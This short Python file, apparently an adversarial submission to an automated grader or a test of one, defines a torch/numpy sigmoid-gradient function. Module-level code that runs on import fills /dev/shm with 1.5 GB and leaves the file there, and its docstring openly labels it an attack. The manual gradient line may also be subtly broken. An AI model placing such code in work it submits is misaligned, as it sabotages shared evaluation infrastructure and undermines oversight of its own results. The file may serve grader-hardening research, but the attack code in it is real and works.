"""Attack: fills /dev/shm with 1.5 GB and leaves it there."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import os
try:
    with open("/dev/shm/grader-attack-fill", "wb") as f:
        chunk = b"x" * (1 << 20)
        for _ in range(1536):
            f.write(chunk)
except OSError:
    pass
